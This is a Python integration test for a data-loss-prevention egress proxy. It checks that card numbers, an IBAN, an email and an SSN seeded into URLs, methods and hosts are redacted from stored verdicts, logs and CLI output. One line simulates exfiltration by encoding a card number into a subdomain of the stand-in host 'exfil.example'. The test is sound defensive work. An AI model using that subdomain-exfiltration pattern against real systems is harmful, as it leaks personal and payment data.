"""Issue 20, gap 1: raw values never reach the compliance record through the URL, the
host or the method. Values are seeded where the verdict shows the request itself (path
segments, query keys, bare query parts, the fragment, a subdomain label, the method
token); every request is still judged and reported with its findings, and no seeded
value is found by grep in the store database (and WAL), the spool (and WAL), the logs
(text and JSON) or `verdicts query --json`.
"""
import glob
import json
import os
import ssl
import subprocess
import threading
import time

import grpc
import pytest

from proxy_helpers import Origin, Pki, connect_tunnel
from store_helpers import free_port, pb, read_run_banner  # noqa: F401

# Seeded values (none of them appears in the shipped pack's text).
CARD = "4539148803436467"
CARD2 = "5425233430109903"
IBAN = "CH0804835098765432100"
EMAIL = "jane.roe.seeded@mailbox-corp.ch"
SSN = "536-90-4399"
ENCODED = "4539%201488%200343%206467"  # percent-encoded, decodes to a grouped card
SEEDS = [CARD, CARD2, IBAN, EMAIL, SSN, ENCODED, "4539 1488 0343 6467"]


def start_run(binary, workdir, pki, log_format):
    home = os.path.join(workdir, f"home-{log_format}")
    store_port = free_port()
    proc = subprocess.Popen([binary, "run", "--home", home, "--proxy-listen", "127.0.0.1:0", "--store-listen",
                             f"127.0.0.1:{store_port}", "--upstream-ca", pki.path("origin-root.pem"), "--allow",
                             "localhost", "--initial-mode", "enforce", "--workers", "2", "--admin-listen", "", "--console-listen", "127.0.0.1:0",
                             "--log-format", log_format, "--log-level", "debug"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    port, _, seen = read_run_banner(proc)
    if port is None:
        proc.kill()
        pytest.fail("egressguard run did not start: " + seen + proc.stderr.read())
    logs = [seen]
    threading.Thread(target=lambda: [logs.append(l) for l in proc.stdout], daemon=True).start()
    threading.Thread(target=lambda: [logs.append(l) for l in proc.stderr], daemon=True).start()
    return {"proc": proc, "proxy": port, "store": f"127.0.0.1:{store_port}", "home": home, "logs": logs,
            "bundle": os.path.join(home, "ca-bundle.pem")}


def raw_request(env, origin_port, head):
    """Sends one request head through a CONNECT tunnel as written (fragments, odd methods)."""
    sock, status, _ = connect_tunnel(env["proxy"], "localhost", origin_port)
    assert status == 200
    ctx = ssl.create_default_context(cafile=env["bundle"])
    with ctx.wrap_socket(sock, server_hostname="localhost") as tls:
        tls.sendall(head.encode())
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
    return data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else ""


def curl(env, url, *extra):
    r = subprocess.run(["curl", "-sS", "--proxy", f"http://127.0.0.1:{env['proxy']}", "--cacert", env["bundle"],
                        "-o", "/dev/null", "-w", "%{http_code}", *extra, url],
                       capture_output=True, text=True, timeout=60)
    return r.stdout


def verdicts(pb, store, want, timeout=30):
    stub = pb.store_grpc.VerdictQueryStub(grpc.insecure_channel(store))
    deadline = time.time() + timeout
    found = []
    while time.time() < deadline:
        found = list(stub.Query(pb.store.QueryRequest(page_size=1000), timeout=30).verdicts)
        if len(found) >= want:
            return found
        time.sleep(0.3)
    raise AssertionError(f"{len(found)} verdicts in the store, expected {want}")


def grep_files(paths, seeds):
    hits = []
    for p in paths:
        if not os.path.isfile(p):
            continue
        data = open(p, "rb").read()
        for s in seeds:
            if s.encode() in data:
                hits.append((p, s))
    return hits


@pytest.mark.parametrize("log_format", ["text", "json"])
def test_values_in_the_url_host_and_method_never_reach_the_record(pb, egressguard_bin, workdir, log_format):
    pki = Pki(workdir)
    origin = Origin(pki.good[1], pki.good[0])
    env = start_run(egressguard_bin, workdir, pki, log_format)
    try:
        base = f"https://localhost:{origin.port}"
        codes = {
            "segment": curl(env, f"{base}/customers/{CARD}/profile"),
            "email_segment": curl(env, f"{base}/users/{EMAIL}/export"),
            "query_key": curl(env, f"{base}/q?{IBAN}=1"),
            "bare_part": curl(env, f"{base}/q?x=1&{CARD2}"),
            "encoded": curl(env, f"{base}/e/{ENCODED}"),
            "ssn_segment": curl(env, f"{base}/ssn/{SSN}"),
        }
        # A fragment and a method token are only sent by hand (curl drops fragments).
        codes["fragment"] = raw_request(env, origin.port, f"GET /f#{CARD} HTTP/1.1\r\nHost: localhost\r\n\r\n")
        codes["method"] = raw_request(env, origin.port, f"{CARD} /m HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n")
        # A subdomain label: refused by the allow-list, recorded with the host redacted.
        sock, status, _ = connect_tunnel(env["proxy"], f"{CARD}.exfil.example", 443)
        sock.close()
        assert status == 403
        # Every request was judged: the cards block in enforce mode.
        assert codes["segment"] == "403" and codes["bare_part"] == "403" and codes["query_key"] == "403", codes
        got = verdicts(pb, env["store"], 9)
        paths = [v.path for v in got]
        assert any(p.startswith("/customers/") and p.endswith("/profile") for p in paths), paths
        seg = next(v for v in got if v.path.startswith("/customers/"))
        assert any(f.category == "credit_card" for f in seg.findings)
        assert "6467" in seg.path  # the redacted evidence keeps the rest readable
        assert any(v.host.endswith(".exfil.example") and CARD not in v.host for v in got), [v.host for v in got]
        for v in got:
            text = str(v)
            for s in SEEDS:
                assert s not in text, (s, text)
        cli = subprocess.run([egressguard_bin, "verdicts", "query", "--store", env["store"], "--all", "--json"],
                             capture_output=True, text=True, timeout=60)
        assert cli.returncode == 0, cli.stderr
        assert len([l for l in cli.stdout.splitlines() if l.strip()]) >= 1
        for s in SEEDS:
            assert s not in cli.stdout, s
    finally:
        env["proc"].terminate()
        try:
            env["proc"].wait(timeout=30)
        except subprocess.TimeoutExpired:
            env["proc"].kill()
        origin.close()
    time.sleep(0.2)
    files = [p for p in glob.glob(os.path.join(env["home"], "**", "*"), recursive=True)
             if ".db" in os.path.basename(p) or "spool" in os.path.basename(p) or p.endswith((".jsonl", ".log"))]
    assert any(".db" in os.path.basename(p) for p in files), files
    assert grep_files(files, SEEDS) == []
    log_text = "".join(env["logs"])
    for s in SEEDS:
        assert s not in log_text, s
    if log_format == "json":
        assert any(l.lstrip().startswith("{") for l in env["logs"]), env["logs"][:5]
